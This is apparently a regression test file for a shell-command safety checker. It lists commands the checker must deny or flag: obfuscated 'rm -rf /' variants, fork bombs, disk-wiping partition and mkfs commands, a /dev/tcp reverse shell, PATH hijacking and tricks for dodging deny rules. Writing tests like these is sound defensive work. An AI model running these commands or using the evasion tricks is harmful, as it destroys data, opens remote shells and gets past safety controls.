"""What was once missed, refused by mistake, hung or crashed: each stays mended."""

from __future__ import annotations

import subprocess
import sys

import pytest

import limpet
from limpet.command.display import summary
from limpet.command.parse import parse

MISSED = [
    "ls && cat <<E | bash\nrm -rf /\nE",
    "cd x && cat <<'E' | sudo bash -s\nrm -rf /\nE",
    "printf '/\\0' | xargs -0 rm -rf",
    "echo a\n\\rm -rf /",
    "x=; $x rm -rf /",
    "$(true) rm -rf /",
    "cat <<E\n$((1 + $(rm -rf /)))\nE",
    "case x in $(rm -rf /)) ;; esac",
    "a | b | c\n(rm -rf /) && ls",
    "a | b | c\nD=/ && rm -rf $D",
    "a | b | c | d > q\nrm -rf ~ && x",
    "a | b | c # d\nrm -rf ~ && x",
    "! if (rm -rf /); then :; fi",
    "! { x=/; rm -rf $x; }",
    "! { A=1 rm -rf ~; }",
    "! for i in /; do rm -rf $i; done",
    "! while (rm -rf /); do :; done",
    "! f() { f|f& }; f",
    "time f() { f|f& }; f",
    "echo $((rm -rf /) | cat)",
    "((rm -rf ~) 2>&1 | tee log)",
    "rm -rf 2>&- ~",
    "rm 2>&- -rf ~",
    "rm -rf <&- ~",
    "ls | LC_ALL=C >/dev/null rm -rf ~",
    "exec /bin/sh 0</dev/tcp/h/1 1>&0 2>&0",
    'rm -rf {"$HOME",/tmp/x}',
    'rm -rf {~,"x y"}',
    'find / -name "*" -delete',
    "ls -d /* | xargs rm -rf",
    'parted -s /dev/sda "mklabel gpt"',
    "sgdisk -n 1:0:0 -p /dev/sda",
    'mkfs.ext4 "${DISK}1"',
    "./$0|./$0&",
    "while :; do $0 & done",
    'printf -v D /; rm -rf "$D"',
    'f() { shift; rm -rf "$1"; }; f x /',
    'd=$(dirname ~/x); rm -rf "$d"',
    "cd / && rm -rf usr",
    "unset X; rm -rf /${X}*",
    "E=etc; echo x > /$E/hosts",
    "for sub in add; do git $sub -A; done",
]
REFUSED_BY_MISTAKE = [
    "curl x | tee a | cat\nls || bash",
    "find a \\\n\t\\( -name x \\) -exec rm -f {} \\;",
    "echo a \\\n \\; b",
    "rm -rf ~/.*/cache",
    "log=/dev/null; mv a $log.1",
    "echo x > /dev/etherd/flush",
    "perl -e 'print \"fork while fork\"'",
    'tmp=$(cd "$(mktemp -d)" && pwd); rm -rf "$tmp"',
    "until $(curl --output /dev/null --silent --head --fail http://localhost:80); do sleep 1; done",
    'walk() { for d in "$1"/*/; do walk "$d" & done; wait; }; walk .',
    "git push origin <name-of-bugfix-or-feature>",
    "git add -u .",
    "git push --force --no-force",
]
SMUGGLED = [
    "PATH=/evil; ls",
    "read PATH <<< /evil; ls",
    "printf -v PATH /evil; ls",
    "declare -n r=PATH; r=/tmp; ls",
    "/tmp/evil/ls",
    "evil; evil() { ls; }",
    "evil() { ls; }; command evil",
    "(evil() { ls; }); evil",
    "evil() { ls; }; bash -c evil",
    "bash --rcfile /tmp/evil -ic ls",
    "test -v 'a[$(evil)]'",
    "ls a | ls | ls | ls 2>&1\nevil && ls",
]
EVADED = [
    "git -C x push",
    "git -c a=b push",
    "git --no-pager push origin",
    "./git push",
    "sudo git push",
]


@pytest.mark.parametrize("command", MISSED)
def test_a_fatal_command_is_refused(command: str) -> None:
    assert limpet.check(command).decision == "deny"


@pytest.mark.parametrize("command", REFUSED_BY_MISTAKE)
def test_an_ordinary_command_is_not(command: str) -> None:
    assert limpet.check(command).decision == "allow"


@pytest.mark.parametrize("command", SMUGGLED)
def test_nothing_is_smuggled_past_what_is_allowed(command: str) -> None:
    bash = limpet.Bash(rules="none", permissions=limpet.PermissionPolicy(allow=("ls *",)))
    assert bash.check(command).decision == "ask"


@pytest.mark.parametrize("command", EVADED)
def test_what_is_denied_is_denied_in_any_form(command: str) -> None:
    bash = limpet.Bash(rules="none", permissions=limpet.PermissionPolicy(deny=("git push *",)))
    assert bash.check(command).decision == "deny"
    assert bash.check("git commit -m push").decision == "allow"


@pytest.mark.parametrize("text", ["a && && b", "| a", "a |", "a && ; b", "a >", "a > | b"])
def test_a_plain_line_that_is_no_syntax_passes_with_the_note(text: str) -> None:
    verdict = limpet.check(text)
    assert verdict.decision == "allow"
    assert {finding.rule for finding in verdict.findings} == {"not-understood"}


def test_places_are_right_after_a_line_of_pipes() -> None:
    commands = parse("a | b | c\nrm -rf ~ || true").commands
    assert [command.joined_by for command in commands] == ["", "|", "|", ";", "||"]
    assert [command.stage for command in commands[:3]] == [0, 1, 2]
    assert [list(command.pipeline) for command in commands[3:]] == [[], []]


@pytest.mark.parametrize(
    "text", ["echo {7\U000f8fa6", "{7\U000f8fa6", "echo \U0010ffff{1..\U0010ffff"]
)
def test_no_character_brings_the_host_down(text: str) -> None:
    code = "import sys, limpet\nfor _ in range(200): limpet.check(sys.argv[1])"
    assert subprocess.run([sys.executable, "-c", code, text], timeout=30).returncode == 0


HARD = {
    "a brace word": 'cp {a,b,c,d,e,f,g,h,i,j,k,l,m,n,o,p,q,r,s,t,u,v,w,"x y"} dir',
    "commas": "echo {" + "," * 3000,
    "a word of braces": "{" + "a,b." * 5000,
    "a fork": "perl -e 'while" + " " * 2500 + "x'",
    "a fan": "find " + "a " * 2000 + "-exec echo " + "{} " * 1300 + "\\;",
    "keywords": "time " * 4000,
    "pipes": "|" * 16_000,
    "brackets": ")" * 50_000,
    "doubled values": "x=a\n" + "x=$x$x\n" * 60,
    "nested rounds": "for a in 1 2 3 4 5 6 7 8; do " * 12 + ":" + "; done" * 12,
    "functions of functions": "".join(f"f{n}() {{ f{n - 1}; f{n - 1}; }}\n" for n in range(1, 40)),
    "substitutions in a body": "cat <<E\n" + "$(a) `b` $c\n" * 20_000 + "E",
}


@pytest.mark.parametrize("kind", HARD)
@pytest.mark.timeout(20)
def test_nothing_takes_for_ever(kind: str) -> None:
    limpet.check(HARD[kind])


@pytest.mark.timeout(20)
def test_a_summary_of_blanks_takes_no_time() -> None:
    assert summary("echo " + " " * 1_000_000 + "a") == "echo a"
